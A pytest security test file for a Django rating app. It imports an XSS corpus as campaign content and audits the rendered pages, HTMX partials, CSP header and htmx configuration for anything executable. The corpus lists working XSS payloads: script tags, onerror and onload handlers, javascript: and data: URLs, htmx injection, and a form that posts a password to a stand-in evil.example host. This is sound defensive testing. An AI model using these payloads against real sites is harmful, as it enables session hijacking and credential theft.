"""Untrusted text through the real rater pages finds nothing executable.

An XSS corpus is imported (the real JSONL import) as prompt messages, completions and
critiques, and set as guidelines, campaign name, aspects, reason tags and flags; the rate page
and its HTMX partials are then parsed with ``html.parser`` and audited: no script but ours, no
event handler, no htmx attribute inside untrusted content, no ``javascript:`` URL, a CSP that
is enforced. A lint test keeps ``|safe`` and ``mark_safe`` out of the code.
"""

from __future__ import annotations

import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils.safestring import mark_safe
from hypothesis import given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from annotation import rendering
from annotation.models import CritiqueMode, Role
from annotation.services.campaigns import campaign_update
from annotation.services.imports import import_jsonl
from annotation.templatetags.annotation_extras import render_markdown
from tests.factories import CampaignFactory, MembershipFactory, UserFactory

HTMX = {"HX-Request": "true"}

CORPUS = [
    "<script>alert('xss-script')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss-img')>",
    "<svg onload=alert('xss-svg')>",
    "<svg><script>alert('xss-svg-script')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "<details open ontoggle=alert('xss-details')>",
    "<body onload=alert('xss-body')>",
    "<iframe src=\"javascript:alert('xss-iframe')\"></iframe>",
    "<object data=\"javascript:alert('xss-object')\"></object>",
    "<embed src=\"javascript:alert('xss-embed')\">",
    "<a href=\"javascript:alert('xss-raw-link')\">raw link</a>",
    "[markdown link](javascript:alert('xss-md-link'))",
    "[upper](JAVASCRIPT:alert('xss-upper'))",
    "[tab](java\tscript:alert('xss-tab'))",
    "[entity](java&#x09;script:alert('xss-entity'))",
    "[zero width](java\u200bscript:alert('xss-zw'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox('xss-vb'))",
    "<javascript:alert('xss-autolink')>",
    "![image](javascript:alert('xss-md-image'))",
    "![remote image](https://evil.example/pixel.png)",
    '[title](https://ok.example "t\\" onmouseover=alert(\'xss-title\')")',
    '<div hx-get="/accounts/logout/" hx-trigger="load">htmx get</div>',
    "<button hx-on:click=\"alert('xss-hx-on')\">htmx on</button>",
    "<p hx-on::load=\"alert('xss-hx-on-load')\">htmx on load</p>",
    '<div data-hx-post="/rate/x/skip/" data-hx-trigger="load">data-hx</div>',
    "<div hx-vals='js:{a: alert(1)}' hx-post=\"/x\">hx-vals</div>",
    "</script><script>alert('xss-close-script')</script>",
    "</textarea><script>alert('xss-textarea')</script>",
    "\"><script>alert('xss-attr-break')</script>",
    "'><img src=x onerror=alert('xss-quote')>",
    "<<script>script>alert('xss-nested')<</script>/script>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-meta\')">',
    '<form action="https://evil.example/steal"><input name=password></form>',
    '<a href="/accounts/logout/" id="card" name="rate-config">clobber</a>',
    "{{ request.csp_nonce }} {% debug %} {{ csrf_token }} {% load static %}",
    "\u202e<script>alert('xss-rtl')</script>",
    "\uff1cscript\uff1ealert('xss-fullwidth')\uff1c/script\uff1e",
    "`<script>alert('xss-code-span')</script>`",
    "```html\n<script>alert('xss-fence')</script>\n```",
    "<!-- <script>alert('xss-comment')</script> -->",
    "<![CDATA[<script>alert('xss-cdata')</script>]]>",
]
# Short enough for the campaign's option lists (at most 60 characters each).
SHORT = [
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '" onmouseover="alert(3)',
    "{{ request.csp_nonce }}",
]
TEMPLATE_LITERAL = "{{ request.csp_nonce }}"

OUR_HX_ATTRIBUTES = {
    "hx-get",
    "hx-post",
    "hx-target",
    "hx-swap",
    "hx-sync",
    "hx-disabled-elt",
    "hx-disable",
    "hx-headers",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc"}
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "wbr"}
NEVER = {"iframe", "object", "embed", "img", "svg", "math", "style", "base", "frame", "applet"}


def _is_untrusted_container(tag: str, attrs: dict[str, str | None]) -> bool:
    return "md" in (attrs.get("class") or "").split()


class PageAudit(HTMLParser):
    """Collects everything on a page that could run code or talk to the server."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[tuple[str, bool]] = []  # (tag, inside untrusted content)
        self.problems: list[str] = []
        self.scripts: list[dict[str, str | None]] = []
        self.script_bodies: list[str] = []
        self._in_script = False
        self.untrusted_blocks = 0
        self.text: list[str] = []

    @property
    def untrusted(self) -> bool:
        return bool(self.stack) and self.stack[-1][1]

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        inside = self.untrusted
        where = f"<{tag} {attrs}>"
        if inside and tag not in rendering.ALLOWED_TAGS:
            self.problems.append(f"tag not on the allowlist inside untrusted content: {where}")
        if tag in NEVER:
            self.problems.append(f"forbidden element: {where}")
        if tag == "link" and (inside or a.get("rel") not in ("stylesheet", "icon")):
            self.problems.append(f"unexpected link: {where}")
        if tag == "link" and not (a.get("href") or "").startswith("/static/"):
            self.problems.append(f"stylesheet or icon from elsewhere: {where}")
        if tag == "meta" and (inside or "http-equiv" in a):
            self.problems.append(f"meta from content: {where}")
        if tag == "form" and inside:
            self.problems.append(f"form inside untrusted content: {where}")
        for name, value in attrs:
            name = name.lower()
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler attribute: {where}")
            if name == "style":
                self.problems.append(f"inline style (CSP forbids it): {where}")
            if name.startswith(("hx-", "data-hx-")):
                if inside:
                    self.problems.append(f"htmx attribute inside untrusted content: {where}")
                elif name not in OUR_HX_ATTRIBUTES:
                    self.problems.append(f"htmx attribute we never write: {where}")
                elif name in ("hx-get", "hx-post") and not value.startswith("/rate/"):
                    self.problems.append(f"htmx request to a foreign URL: {where}")
            if inside and name in ("id", "name", "class") and tag != "code":
                self.problems.append(f"{name} from untrusted content (DOM clobbering): {where}")
            if name in URL_ATTRIBUTES:
                squashed = re.sub(r"[\x00-\x20\u200b-\u200f\u2028-\u202e]", "", value).lower()
                if squashed.startswith(("javascript:", "vbscript:", "data:", "file:")):
                    self.problems.append(f"script URL: {where}")
                if inside and not squashed.startswith(("http://", "https://", "mailto:")):
                    self.problems.append(f"non-absolute URL in untrusted content: {where}")
                if inside and tag == "a" and a.get("rel") != rendering.LINK_REL:
                    self.problems.append(f"link without rel={rendering.LINK_REL}: {where}")
        if tag == "script":
            self.scripts.append(a)
            self._in_script = True
            self.script_bodies.append("")
        if tag not in VOID:
            self.stack.append((tag, inside or _is_untrusted_container(tag, a)))
            if not inside and _is_untrusted_container(tag, a):
                self.untrusted_blocks += 1
                if "hx-disable" not in a:
                    self.problems.append(f"untrusted content outside hx-disable: {where}")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False
        for i in range(len(self.stack) - 1, -1, -1):
            if self.stack[i][0] == tag:
                del self.stack[i:]
                break

    def handle_data(self, data):
        if self._in_script:
            self.script_bodies[-1] += data
        else:
            self.text.append(data)


def audit(html: str) -> PageAudit:
    parser = PageAudit()
    parser.feed(html)
    parser.close()
    return parser


def csp_directives(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    directives: dict[str, list[str]] = {}
    for part in header.split(";"):
        tokens = part.split()
        if tokens:
            directives[tokens[0]] = tokens[1:]
    return directives


def _import_corpus(campaign) -> None:
    messages = []
    for i, text in enumerate(CORPUS):
        messages.append({"role": ("system", "user", "assistant")[i % 3], "content": text})
    messages.append({"role": "user", "content": " ".join(CORPUS)})
    lines = []
    for n in range(2):  # two comparisons, so a submit swaps in a second poisoned card
        lines.append(
            {
                "prompt": messages,
                "id": f"evil-{n}",
                "a": {
                    "text": "\n\n".join(CORPUS) + f"\n\nblock {n}",
                    "source": "<script>alert('source')</script>",
                    "critique": {"critic": "<svg onload=alert(1)>", "text": " ".join(CORPUS)},
                },
                "b": {
                    "text": " ".join(CORPUS) + f" inline {n}",
                    "source": "evil-source-b",
                    "critique": {"critic": "evil-critic", "text": "\n\n".join(CORPUS)},
                },
            }
        )
    data = "\n".join(json.dumps(line) for line in lines).encode()
    import_jsonl(campaign=campaign, stream=io.BytesIO(data), kind="pairs")


@pytest.fixture
def poisoned(db):
    campaign = CampaignFactory(
        name="</script><script>alert('name')</script>",
        critique_mode=CritiqueMode.ALWAYS,
        strength_scale=3,
    )
    campaign = campaign_update(
        campaign=campaign,
        guidelines="\n\n".join(CORPUS),
        aspects=SHORT,
        reason_tags=SHORT,
        flag_options=SHORT,
    )
    _import_corpus(campaign)
    rater = UserFactory()
    MembershipFactory(campaign=campaign, user=rater, role=Role.RATER)
    client = Client()
    client.force_login(rater)
    return campaign, client


def _assert_clean(html: str, *, nonce: str | None) -> PageAudit:
    page = audit(html)
    assert page.problems == []
    for attrs, body in zip(page.scripts, page.script_bodies, strict=True):
        if attrs.get("type") == "application/json":
            assert attrs.get("id") == "rate-config"
            json.loads(body)  # json_script escaped it: the body is one intact JSON document
            continue
        assert nonce is not None, "a partial carries no scripts"
        assert set(attrs) == {"src", "nonce", "defer"}, attrs
        assert attrs["src"].startswith("/static/")
        assert attrs["nonce"] == nonce
        assert body.strip() == ""
    return page


def test_rate_page_with_an_xss_corpus_has_nothing_executable(poisoned):
    campaign, client = poisoned
    response = client.get(reverse("annotation:rate", kwargs={"slug": campaign.slug}))
    assert response.status_code == 200
    html = response.content.decode()
    nonce = re.search(r"'nonce-([^']+)'", response["Content-Security-Policy"]).group(1)
    page = _assert_clean(html, nonce=nonce)
    # The corpus really was on the page: guidelines, conversation, both sides, critiques.
    assert page.untrusted_blocks >= len(CORPUS) + 1 + 2 + 2 + 1
    text = "".join(page.text)
    assert "alert('xss-script')" in text
    assert "hx-on:click" in text
    # Exactly our scripts (htmx, card-feedback.js, rate.js) and the page config.
    assert sorted(s.get("src") or s.get("id") for s in page.scripts) == [
        "/static/js/card-feedback.js",
        "/static/js/rate.js",
        "/static/vendor/htmx/htmx.min.js",
        "rate-config",
    ]
    # Template syntax in data is shown, never evaluated: the literal is on the page and the
    # nonce appears nowhere but in the three script tags.
    assert TEMPLATE_LITERAL in text
    assert html.count(nonce) == 3
    config = json.loads(
        page.script_bodies[[s.get("id") for s in page.scripts].index("rate-config")]
    )
    assert config["campaign"] == campaign.name
    assert config["aspects"] == SHORT


def test_htmx_partials_with_an_xss_corpus_have_nothing_executable(poisoned):
    campaign, client = poisoned
    rate = reverse("annotation:rate", kwargs={"slug": campaign.slug})
    submit = reverse("annotation:rate_submit", kwargs={"slug": campaign.slug})
    html = client.get(rate).content.decode()
    fields = dict(re.findall(r'name="(slot_id|lease|idempotency_key)" value="([^"]*)"', html))
    # An invalid answer echoes the unknown tag in its message: escaped, never markup.
    bad = client.post(
        submit, {**fields, "choice": "left", "reason_tags": [CORPUS[2]]}, headers=HTMX
    )
    assert bad.status_code == 422
    assert "onerror" in bad.content.decode()  # as text
    _assert_clean(bad.content.decode(), nonce=None)
    assert audit(bad.content.decode()).scripts == []
    ok = client.post(submit, {**fields, "choice": "left", "strength": "2"}, headers=HTMX)
    assert ok.status_code == 200
    partial = ok.content.decode()
    assert 'name="slot_id"' in partial, "the second poisoned card was swapped in"
    page = _assert_clean(partial, nonce=None)
    assert page.scripts == [], "a swapped-in partial carries no script at all"


def test_csp_header_is_enforced_with_a_nonce(poisoned):
    campaign, client = poisoned
    response = client.get(reverse("annotation:rate", kwargs={"slug": campaign.slug}))
    assert "Content-Security-Policy-Report-Only" not in response
    d = csp_directives(response)
    assert "'self'" in d["script-src"]
    assert any(t.startswith("'nonce-") for t in d["script-src"])
    for directive in ("script-src", "style-src", "default-src"):
        for loose in ("'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"):
            assert loose not in d.get(directive, []), (directive, loose)
    assert d["object-src"] == ["'none'"]
    assert d["base-uri"] == ["'none'"]
    assert d["frame-ancestors"] == ["'none'"]
    assert d["style-src"] == ["'self'"]
    # The nonce changes per response: a leaked one is useless on the next page.
    again = client.get(reverse("annotation:rate", kwargs={"slug": campaign.slug}))
    assert csp_directives(again)["script-src"] != d["script-src"]


def test_htmx_is_configured_without_eval_or_script_tags(poisoned):
    campaign, client = poisoned
    html = client.get(reverse("annotation:rate", kwargs={"slug": campaign.slug})).content
    match = re.search(rb'<meta name="htmx-config" content=\'([^\']+)\'>', html)
    config = json.loads(match.group(1))
    assert config["allowEval"] is False
    assert config["allowScriptTags"] is False
    assert config["selfRequestsOnly"] is True
    assert config["includeIndicatorStyles"] is False  # it would inject an inline <style>


def test_home_page_escapes_campaign_text(poisoned):
    campaign, client = poisoned
    campaign.description = CORPUS[2]
    campaign.save()
    response = client.get(reverse("annotation:home"))
    nonce = re.search(r"'nonce-([^']+)'", response["Content-Security-Policy"]).group(1)
    _assert_clean(response.content.decode(), nonce=nonce)
    assert "&lt;script&gt;alert(&#x27;name&#x27;)" in response.content.decode()  # shown


# -- the renderer on its own ----------------------------------------------------------------------


@pytest.mark.parametrize("text", CORPUS + SHORT)
def test_renderer_output_is_allowlisted_for_each_corpus_entry(text):
    html = str(rendering.render_markdown(text))
    page = audit(f'<div class="md" hx-disable>{html}</div>')
    assert page.problems == []
    assert page.scripts == []


def test_filter_renders_text_marked_safe_from_scratch():
    html = str(render_markdown(mark_safe("<b onclick=alert(1)>x</b>")))
    assert "<b" not in html
    assert "&lt;b onclick=alert(1)&gt;" in html


def test_links_keep_only_http_https_mailto_with_rel():
    html = str(
        rendering.render_markdown(
            "[a](https://ok.example/x) [b](mailto:a@ok.example) [c](/relative) [d](//host)"
        )
    )
    rel = rendering.LINK_REL
    assert f'<a href="https://ok.example/x" rel="{rel}">a</a>' in html
    assert f'<a href="mailto:a@ok.example" rel="{rel}">b</a>' in html
    assert f'<a rel="{rel}">c</a>' in html
    assert f'<a rel="{rel}">d</a>' in html


_PIECES = st.sampled_from(
    [
        "<", ">", "\"", "'", "=", "/", "&", "#", ";", ":", "(", ")", "[", "]", "!", "`",
        "\n", "\n\n", " ", "\t", "\u200b", "\u202e", "script", "img", "svg", "a", "href",
        "src", "onerror", "onload", "hx-get", "hx-on:click", "data-hx-post", "javascript",
        "JaVaScRiPt", "alert(1)", "http://x.example", "style", "class", "id", "```", "*",
        "_", "~~", "|", "-", "#", "&#x3C;", "&lt;", "<!--", "-->", "]]>", "\\",
    ]
)  # fmt: skip


@hsettings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=60).map("".join))
def test_renderer_never_emits_anything_off_the_allowlist(text):
    html = str(rendering.render_markdown(text))
    page = audit(f'<div class="md" hx-disable>{html}</div>')
    assert page.problems == []
    assert page.scripts == []


# -- lint -----------------------------------------------------------------------------------------

_UNSAFE = [
    re.compile(r"\bmark_safe\b"),
    re.compile(r"\|\s*safe(seq)?\b"),
    re.compile(r"\{%\s*autoescape\s+off"),
    re.compile(r"\bSafeString\s*\("),
    re.compile(r"\bSafeData\b"),
]


def test_no_safe_filter_or_mark_safe_outside_the_renderer():
    base = Path(settings.BASE_DIR)
    allowed = {base / "annotation" / "rendering.py"}
    files = [
        *(base / "annotation").rglob("*.py"),
        *(base / "annotation").rglob("*.html"),
        *(base / "templates").rglob("*.html"),
    ]
    assert len(files) > 10
    offenders = [
        f"{path.relative_to(base)}:{n}: {line.strip()}"
        for path in files
        if path not in allowed
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if any(p.search(line) for p in _UNSAFE)
    ]
    assert offenders == []


def test_the_renderer_marks_safe_only_nh3_output():
    source = (Path(settings.BASE_DIR) / "annotation" / "rendering.py").read_text()
    calls = re.findall(r"mark_safe\(([^)]*)\)", source)
    assert calls == ['""', "cleaned"]
    assert "cleaned = sanitize_html(" in source
